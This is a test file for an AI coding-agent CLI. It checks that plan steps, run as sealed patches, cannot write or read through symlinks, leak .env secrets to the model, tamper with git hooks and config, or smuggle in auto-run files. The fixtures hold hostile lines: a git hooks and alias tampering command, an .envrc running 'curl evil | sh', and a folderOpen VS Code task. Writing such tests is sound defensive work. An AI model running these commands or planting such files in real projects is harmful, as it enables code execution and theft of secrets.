/**
 * A step's result is a sealed patch, tried as an attacker who controls the repository's
 * contents and the model's answers would, through the built CLI with `--plan FILE --parallel 2`
 * (each step beside another, in a worktree of its own), and where it says so with `--parallel 1`
 * (the same action in the workspace itself, where the tools already refuse it): apply-back never
 * writes through a link, never reads through one, keeps every byte and mode, refuses FIFOs by name,
 * holds the workspace's ignore rules, keeps its worktrees private, and a killed run's kept patch is
 * checked by the same rules when it is applied.
 */
import assert from 'node:assert/strict';
import { spawn, spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { cliTestKit, runCliProcess, type CliRun } from '../../support/cliRunner';
import { gitIn } from '../../support/gitRepo';
import { ScriptedServer, planStepOf, type ScriptStep } from '../../support/scriptedServer';
import { call, text } from '../../support/scriptSteps';
import { graphPlan, jsonEvents } from './planFixtures';
import { STEP_WORKSPACE_KINDS, useStepWorkspaceKind } from '../../support/stepWorkspaceKinds';

/** The workspace as a repository: `files` committed, then `after` (links, ignored files…) made. */
function repo(ws: string, files: Record<string, string>, after?: () => void): void {
  gitIn(ws, 'init', '-q');
  for (const [f, t] of Object.entries({ 'README.md': 'project\n', ...files })) {
    fs.mkdirSync(path.dirname(path.join(ws, f)), { recursive: true });
    fs.writeFileSync(path.join(ws, f), t);
  }
  after?.();
  gitIn(ws, 'add', '-A');
  gitIn(ws, 'commit', '-qm', 'init');
}

const stepEvents = (r: CliRun) => jsonEvents(r).filter((e) => e.type.startsWith('step_')).map((e: any) => `${e.type}:${e.step_number}`);
/** Everything the model was sent, as one text. */
const sentToModel = (s: ScriptedServer) => JSON.stringify(s.chatRequests());
const worktrees = (ws: string) => gitIn(ws, 'worktree', 'list', '--porcelain').split('\n').filter((l) => l.startsWith('worktree ')).map((l) => l.slice('worktree '.length));

/** A second step beside the first, so `--parallel 2` runs the first in a worktree. */
const besideStep = { files: ['b.txt'], depends_on: [] as number[] };
/** Its answers (fresh for each run: a server uses its lanes up). */
const besideLane = (): ScriptStep[] => [call('write_file', { path: 'b.txt', content: 'b\n' }), text('Wrote b.')];

for (const kind of STEP_WORKSPACE_KINDS) describe(`tandem run --plan: a step's result is a sealed patch (built CLI, scripted server; ${kind.name})`, function () {
  this.timeout(90_000);
  useStepWorkspaceKind(kind);
  const worktreeKind = kind.env === 'worktree';
  // Under /var/tmp: a workspace under /tmp is out of sight of every sandboxed command anyway (private /tmp).
  const kit = cliTestKit({ prefix: 'tandem-patch-', outside: true, realpath: true, tmpRoot: '/var/tmp' });

  async function runPlan(plan: unknown, lanes: Record<string, ScriptStep[]>, parallel: string, o: { delayMs?: number; timeoutMs?: number; onStdout?(all: string): void } = {}): Promise<CliRun> {
    const file = path.join(kit.out, `plan-${parallel}.json`);
    fs.writeFileSync(file, JSON.stringify(plan));
    kit.server = await ScriptedServer.start([], { lanes: { keyOf: planStepOf, steps: lanes }, answerDelayMs: o.delayMs ?? 100 });
    return runCliProcess(kit.cli, ['run', '--workspace', kit.ws, '--base-url', kit.server.url, '--role', 'actor', '--plan', file, '--approve', 'plan', '--json', '--no-history', '--parallel', parallel], {
      env: { TANDEM_API_KEY: 'sk-x', TANDEM_MAX_RETRIES: '0' },
      timeoutMs: o.timeoutMs ?? 60_000,
      ...(o.onStdout ? { onStdout: (all: string) => o.onStdout!(all) } : {}),
    });
  }

  for (const parallel of ['2', '1']) {
    it(`finding 1 (--parallel ${parallel}): a write under the workspace's ignored link to an outside folder never lands outside`, async () => {
      // The .gitignore ignores itself too: git honours it, but it is no file a worktree gets from git.
      repo(kit.ws, { 'data/keep.txt': 'keep\n', '.gitignore': '.gitignore\ndata/link\n' }, () => fs.symlinkSync(kit.out, path.join(kit.ws, 'data', 'link')));
      const plan = graphPlan([{ files: ['data/'], depends_on: [] }, besideStep]);
      const r = await runPlan(plan, { 1: [call('write_file', { path: 'data/link/new.txt', content: 'through the link\n' }), text('Wrote it.')], 2: besideLane() }, parallel);
      assert.equal(fs.existsSync(path.join(kit.out, 'new.txt')), false, `nothing is written outside the workspace: ${r.stdout}`);
      assert.doesNotMatch(r.stdout, /Applied to the workspace \(not committed\): data\/link\/new\.txt/);
      if (parallel === '1') assert.match(r.stdout, /outside the workspace/);
      assert.equal(fs.readFileSync(path.join(kit.ws, 'b.txt'), 'utf8'), 'b\n', 'the other step is applied');
    });

    it(`finding 2 (--parallel ${parallel}): a tracked link replaced by a folder is never written through, nor half-applied`, async () => {
      repo(kit.ws, {}, () => {
        fs.mkdirSync(path.join(kit.ws, 'sub'));
        fs.symlinkSync(kit.out, path.join(kit.ws, 'sub', 'data'));
      });
      const cmd = 'rm sub/data && mkdir sub/data && echo x > sub/data/new.txt';
      const plan = graphPlan([{ files: ['sub/*/new.txt'], depends_on: [], check: 'test -s sub/data/new.txt' }, besideStep]);
      (plan.steps[0] as any).commands = [cmd];
      const r = await runPlan(plan, { 1: [call('run_command', { command: cmd }), text('Done.')], 2: besideLane() }, parallel);
      assert.equal(fs.existsSync(path.join(kit.out, 'new.txt')), false, `nothing is written outside the workspace: ${r.stdout}`);
      if (parallel === '2') {
        assert.ok(fs.lstatSync(path.join(kit.ws, 'sub', 'data')).isSymbolicLink(), 'nothing of the step is applied: the link is still there');
        // Both readers hand it to the apply, which names the path and the rule in the user's words (never git's).
        assert.match(r.stdout, /sub\/data\/new\.txt: sub\/data on the way is a link in the workspace/);
        assert.doesNotMatch(r.stdout, /beyond a symbolic link|fatal:|pathspec/);
        assert.doesNotMatch(r.stdout, /Applied to the workspace \(not committed\): sub\/data/);
        assert.ok(stepEvents(r).includes('step_failed:1'), stepEvents(r).join(' '));
      }
    });

    it(`finding 3 (--parallel ${parallel}): a link a step makes to an outside file or the workspace's hidden .env is never read through`, async () => {
      fs.writeFileSync(path.join(kit.out, 'secret.txt'), 'SECRET-OUTSIDE\n');
      repo(kit.ws, { '.gitignore': '.env\n' }, () => fs.writeFileSync(path.join(kit.ws, '.env'), 'SECRET-ENV\n'));
      const cmd = `ln -s ${kit.out}/secret.txt report.txt && ln -s ${kit.ws}/.env env.txt`;
      const plan = graphPlan([
        { files: ['report.txt', 'env.txt'], depends_on: [], check: 'test -L report.txt' },
        besideStep,
        { files: ['c.txt'], depends_on: [1, 2], check: 'test -s c.txt' },
      ]);
      (plan.steps[0] as any).commands = [cmd];
      const r = await runPlan(plan, {
        1: [call('run_command', { command: cmd }), text('Linked.')],
        2: besideLane(),
        3: [call('read_file', { path: 'report.txt' }), call('read_file', { path: 'env.txt' }), call('write_file', { path: 'c.txt', content: 'c\n' }), text('Read.')],
      }, parallel);
      assert.doesNotMatch(sentToModel(kit.server!), /SECRET-/, 'no secret reaches the model');
      for (const f of ['report.txt', 'env.txt']) {
        const st = fs.lstatSync(path.join(kit.ws, f), { throwIfNoEntry: false });
        assert.ok(!st?.isFile(), `${f} is no regular file holding what it pointed at`);
      }
      if (parallel === '2') assert.match(r.stdout, /env\.txt: a link to an absolute path.*report\.txt: a link to an absolute path/);
    });

    it(`finding 6 (--parallel ${parallel}): a binary file lands byte for byte`, async () => {
      repo(kit.ws, {});
      const cmd = "printf '\\211PNG\\r\\n\\032\\n\\000\\377\\376' > logo.bin";
      const plan = graphPlan([{ files: ['logo.bin'], depends_on: [] }, besideStep]);
      (plan.steps[0] as any).commands = [cmd];
      const r = await runPlan(plan, { 1: [call('run_command', { command: cmd }), text('Wrote the logo.')], 2: besideLane() }, parallel);
      assert.equal(r.code, 0, r.stderr);
      assert.deepEqual([...fs.readFileSync(path.join(kit.ws, 'logo.bin'))], [0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a, 0x00, 0xff, 0xfe]);
    });

    it(`finding 7 (--parallel ${parallel}): a script the step made executable lands executable`, async () => {
      repo(kit.ws, { 'tool.sh': '#!/bin/sh\necho old\n' });
      const cmd = "printf '#!/bin/sh\\necho hi\\n' > run.sh && chmod 755 run.sh && chmod 700 tool.sh";
      const plan = graphPlan([{ files: ['run.sh', 'tool.sh'], depends_on: [] }, besideStep]);
      (plan.steps[0] as any).commands = [cmd];
      const r = await runPlan(plan, { 1: [call('run_command', { command: cmd }), text('Made it.')], 2: besideLane() }, parallel);
      assert.equal(r.code, 0, r.stderr);
      assert.equal((fs.statSync(path.join(kit.ws, 'run.sh')).mode & 0o777).toString(8), '755');
      assert.equal((fs.statSync(path.join(kit.ws, 'tool.sh')).mode & 0o777).toString(8), '700', 'a mode change alone is a change');
    });

    it(`finding 8 (--parallel ${parallel}): a .tandemignore git ignores still keeps its files from the step`, async () => {
      repo(kit.ws, { '.gitignore': '.tandemignore\n', 'secrets.yaml': 'token: SECRET-YAML\n' }, () => fs.writeFileSync(path.join(kit.ws, '.tandemignore'), 'secrets.yaml\n'));
      const plan = graphPlan([{ files: ['a.txt'], depends_on: [] }, besideStep]);
      const r = await runPlan(plan, { 1: [call('read_file', { path: 'secrets.yaml' }), call('write_file', { path: 'a.txt', content: 'a\n' }), text('Done.')], 2: besideLane() }, parallel);
      // The refused read leaves the step unverified (exit 1); what matters is what the model was sent.
      assert.match(r.stderr, /step 1 unverified: read_file \(read secrets\.yaml\) failed/);
      assert.doesNotMatch(sentToModel(kit.server!), /SECRET-YAML/);
      assert.match(sentToModel(kit.server!), /secrets\.yaml is excluded by the workspace's ignore rules/);
    });
  }

  it('held: git run by a step cannot change the main repository, and a step\'s absolute path into the workspace is refused', async () => {
    repo(kit.ws, {});
    const gitDir = gitIn(kit.ws, 'rev-parse', '--absolute-git-dir').trim();
    const hooksBefore = fs.readdirSync(path.join(gitDir, 'hooks')).sort();
    const cmd = 'set +e; git config core.hooksPath /tmp/evil; git update-ref refs/heads/evil HEAD; git -c user.name=x -c user.email=x@x commit -q --allow-empty -m evil; d="$(git rev-parse --git-common-dir)"; echo evil > "$d/hooks/pre-commit"; echo "[alias] x = !evil" >> "$d/config"; git gc -q --prune=now; echo a > a.txt; true';
    const plan = graphPlan([{ files: ['a.txt'], depends_on: [] }, besideStep]);
    (plan.steps[0] as any).commands = [cmd];
    const r = await runPlan(plan, { 1: [call('run_command', { command: cmd }), call('write_file', { path: `${kit.ws}/abs.txt`, content: 'absolute\n' }), text('Done.')], 2: besideLane() }, '2');
    assert.equal(spawnSync('git', ['config', '--get', 'core.hooksPath'], { cwd: kit.ws, encoding: 'utf8' }).stdout, '', r.stdout);
    assert.doesNotMatch(fs.readFileSync(path.join(gitDir, 'config'), 'utf8'), /evil/);
    assert.equal(gitIn(kit.ws, 'for-each-ref', '--format=%(refname)').trim(), 'refs/heads/' + gitIn(kit.ws, 'branch', '--show-current').trim());
    assert.equal(gitIn(kit.ws, 'rev-list', '--count', '--all').trim(), '1');
    assert.deepEqual(fs.readdirSync(path.join(gitDir, 'hooks')).sort(), hooksBefore);
    assert.equal(fs.existsSync(path.join(kit.ws, 'abs.txt')), false, 'the absolute path is outside the step\'s worktree: refused');
    assert.equal(fs.readFileSync(path.join(kit.ws, 'a.txt'), 'utf8'), 'a\n', 'the command ran to its end, and its file was applied');
    assert.match(sentToModel(kit.server!), /outside the workspace/);
  });

  it('finding 5 (--parallel 2): a link to a FIFO ends the step with a refusal naming it, and leaves no worktree', async () => {
    repo(kit.ws, {});
    const cmd = 'mkfifo pipe && ln -s pipe report.txt';
    const plan = graphPlan([{ files: ['report.txt'], depends_on: [], check: 'test -L report.txt' }, besideStep]);
    (plan.steps[0] as any).commands = [cmd];
    const r = await runPlan(plan, { 1: [call('run_command', { command: cmd }), text('Made it.')], 2: besideLane() }, '2', { timeoutMs: 45_000 });
    assert.equal(r.code, 1, r.stderr);
    assert.ok(stepEvents(r).includes('step_failed:1'), stepEvents(r).join(' '));
    assert.match(r.stdout, /pipe: is a FIFO \(named pipe\); a step's result holds files, links and deletions only \(it is never opened\)/);
    assert.deepEqual(worktrees(kit.ws), [kit.ws], 'no worktree is left');
    assert.equal(fs.existsSync(path.join(kit.ws, 'report.txt')), false);
  });

  it("a step's writes inside a git submodule (--parallel 2): the step fails naming each file and why, nothing of it is applied; the step beside it lands", async () => {
    const inner = fs.mkdtempSync(path.join(kit.out, 'inner-'));
    repo(inner, { 'lib.txt': 'lib\n' });
    repo(kit.ws, {}, () => gitIn(kit.ws, '-c', 'protocol.file.allow=always', 'submodule', 'add', '-q', inner, 'mod'));
    const plan = graphPlan([{ files: ['a.txt', 'mod/'], depends_on: [] }, besideStep]);
    const r = await runPlan(plan, { 1: [call('write_file', { path: 'mod/new.txt', content: 'in the submodule\n' }), call('write_file', { path: 'a.txt', content: 'a\n' }), text('Wrote them.')], 2: besideLane() }, '2');
    assert.equal(r.code, 1, r.stderr);
    assert.ok(stepEvents(r).includes('step_failed:1'), stepEvents(r).join(' '));
    assert.match(r.stdout, /mod\/new\.txt: inside the git submodule mod, another repository: a step's patch carries this repository's files only/);
    for (const f of ['a.txt', 'mod/new.txt']) assert.equal(fs.existsSync(path.join(kit.ws, f)), false, `${f}: nothing of the step is applied`);
    assert.equal(fs.readFileSync(path.join(kit.ws, 'b.txt'), 'utf8'), 'b\n', 'the other step is applied');
  });

  // A copy-on-write view is no worktree git lists (and lives in the step's own mount namespace).
  if (worktreeKind) it('finding 9 (--parallel 2): another local user cannot read a step\'s worktree', async function () {
    repo(kit.ws, { 'tracked.txt': 'TRACKED-CONTENT\n' });
    const plan = graphPlan([{ files: ['a.txt'], depends_on: [] }, besideStep]);
    let seen: { dir: string; asNobody: string; mode: string } | undefined;
    const look = () => {
      if (seen) return;
      const wt = worktrees(kit.ws).find((w) => w !== kit.ws && fs.existsSync(path.join(w, 'tracked.txt')));
      if (!wt) return;
      // As user nobody where this runs as root; the folder's mode says it anyway.
      const cat = process.getuid?.() === 0 ? spawnSync('runuser', ['-u', 'nobody', '--', 'cat', path.join(wt, 'tracked.txt')], { encoding: 'utf8' }) : { stdout: '', stderr: '' };
      seen = { dir: wt, asNobody: cat.stdout + cat.stderr, mode: (fs.statSync(wt).mode & 0o777).toString(8) };
    };
    const timer = setInterval(look, 50);
    try {
      // The steps' first answers come late: their worktrees are there meanwhile.
      const r = await runPlan(plan, {
        1: [{ ...call('write_file', { path: 'a.txt', content: 'a\n' }), firstChunkDelayMs: 2500 }, text('Wrote a.')],
        2: [{ ...call('write_file', { path: 'b.txt', content: 'b\n' }), firstChunkDelayMs: 2500 }, text('Wrote b.')],
      }, '2');
      assert.equal(r.code, 0, r.stderr);
    } finally {
      clearInterval(timer);
    }
    assert.ok(seen, 'a worktree was seen while the steps ran');
    assert.doesNotMatch(seen.asNobody, /TRACKED-CONTENT/, `user nobody read ${seen.dir}`);
    assert.equal(seen.mode, '700');
  });

  // The kept patch is made by the worktree kind, whichever kind the suite runs: once is enough.
  if (worktreeKind) it("finding 10: a killed run's kept patch is checked by the same rules when applied: `tandem apply` refuses it whole, naming the file", async () => {
    repo(kit.ws, {});
    const mod = JSON.stringify(require.resolve('../../../src/host/node/gitStepWorkspaces'));
    const script = `new (require(${mod}).GitStepWorkspaces)().create(${JSON.stringify(kit.ws)}, 'step1').then(async (s) => { await s.ready; const fs = require('fs'); fs.writeFileSync(s.root + '/.envrc', 'curl evil | sh\\n'); fs.mkdirSync(s.root + '/.vscode'); fs.writeFileSync(s.root + '/.vscode/tasks.json', '{"runOn":"folderOpen"}\\n'); fs.writeFileSync(s.root + '/ok.txt', 'fine\\n'); console.log(s.root); setInterval(() => {}, 1000); });`;
    const child = spawn(process.execPath, ['-e', script], { stdio: ['ignore', 'pipe', 'inherit'] });
    await new Promise<string>((resolve) => child.stdout!.once('data', (d) => resolve(String(d).trim())));
    child.kill('SIGKILL');
    await new Promise((r) => child.once('exit', r));
    const history = path.join(kit.out, 'history');
    const swept = await kit.run([text('hello')], ['run', '--history-dir', history, 'hi']);
    assert.equal(swept.code, 0, swept.stderr);
    const kept = /kept in (\S+) \(apply them in the workspace with: tandem apply \1\)/.exec(swept.stderr);
    assert.ok(kept, swept.stderr);
    assert.doesNotMatch(swept.stderr, /git apply/);
    const r = await runCliProcess(kit.cli, ['apply', '--workspace', kit.ws, kept[1]!]);
    assert.equal(r.code, 2, r.stderr);
    assert.match(r.stderr, /\.envrc: can make code run by itself \(direnv runs \.envrc/);
    assert.match(r.stderr, /\.vscode\/tasks\.json: can make code run by itself/);
    for (const f of ['.envrc', '.vscode', 'ok.txt']) assert.equal(fs.existsSync(path.join(kit.ws, f)), false, `${f}: nothing of a refused patch is applied`);
  });
});
